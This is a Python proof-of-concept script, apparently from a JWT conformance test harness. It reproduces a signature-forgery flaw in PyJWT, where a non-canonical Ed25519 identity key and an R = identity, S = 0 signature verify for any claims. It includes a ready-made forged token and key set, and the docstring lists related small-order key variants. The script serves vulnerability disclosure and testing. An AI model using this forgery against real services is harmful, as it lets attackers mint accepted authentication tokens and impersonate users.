#!/usr/bin/env python3
"""PyJWT accepts a token signed by nobody: the key set's one Ed25519 key is the
identity point in a non-canonical encoding (x = 0 with the sign bit set: x = "AQAA…AIA"), which
is no valid public key, and the token's signature is R = the identity, S = 0, which verifies under
that key for every message. The library loads the key without checking it (cryptography's
Ed25519PublicKey.from_public_bytes, which takes any 32 bytes) and OpenSSL's Ed25519 verification
accepts the signature, so anyone can mint tokens "signed" by such a key.

RFC 8037 §3.1.2: "Verification is performed by applying the verification algorithm defined in
[RFC8032] to the public key (as public key) …"; RFC 8032 §5.1.3, decoding a point: "If x = 0, and
x_0 = 1, decoding fails." (and §5.1.7 verifies only a public key A that decodes).

Reproduces: eddsa/key-non-canonical-identity-sign-bit (forgery)

(The same root cause accepts eddsa/key-non-canonical-identity-y-p-plus-1(-sign-bit),
key-non-canonical-order2-sign-bit and key-non-canonical-order4-y-p(-sign-bit): other small-order
points, non-canonically encoded. The library has no setting that checks an OKP key.)

Run (after scripts/setup.sh): adapters/pyjwt/.venv/bin/python adapters/pyjwt/repro.py
Configured as adapters/pyjwt/adapter.py configures it; needs only PyJWT (with cryptography).
PyJWT: PyJWKSet.from_json -> OKPAlgorithm.from_jwk -> Ed25519PublicKey.from_public_bytes(x); the
OKP algorithm has no key-length or key check (enforce_minimum_key_length covers RSA and HMAC).
"""

import json
import sys

import jwt

VECTOR = "eddsa/key-non-canonical-identity-sign-bit"
TOKEN = (
    "eyJhbGciOiJFZERTQSIsImtpZCI6ImVkMjU1MTkiLCJ0eXAiOiJhdCtqd3QifQ"
    ".eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6"
    "MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNL"
    "NE01TjZQN1E4UjlTMFQxVjIifQ"
    ".AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
)
JWKS = {"keys": [{"alg": "EdDSA", "crv": "Ed25519", "kid": "ed25519", "kty": "OKP", "use": "sig",
                  "x": "AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAIA"}]}
ISSUER, AUDIENCES, ALGORITHMS, LEEWAY = "https://issuer.example", ["https://api.example"], ["EdDSA"], 0
VERIFY_ALL = ("signature", "exp", "nbf", "iat", "aud", "iss", "sub", "jti")
OPTIONS = {"require": ["exp", "iat", "iss", "aud", "sub", "client_id", "jti"], "strict_aud": False,
           "enforce_minimum_key_length": True, **{f"verify_{v}": True for v in VERIFY_ALL}}


def main():
    try:
        key_set = jwt.PyJWKSet.from_json(json.dumps(JWKS))
        key = key_set[jwt.get_unverified_header(TOKEN).get("kid")]
        claims = jwt.decode(TOKEN, key=key, algorithms=ALGORITHMS, audience=AUDIENCES, issuer=ISSUER,
                            leeway=LEEWAY, options=OPTIONS)
    except (jwt.PyJWTError, KeyError) as error:
        print(f"NOT REPRODUCED {VECTOR}: PyJWT rejected the token: {type(error).__name__}: {error}")
        return 1
    print(f"REPRODUCED {VECTOR}: PyJWT accepted a token whose EdDSA signature is R = identity, S = 0 under a "
          f"non-canonical identity public key (a signature anyone can make for any claims): sub = {claims.get('sub')!r}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
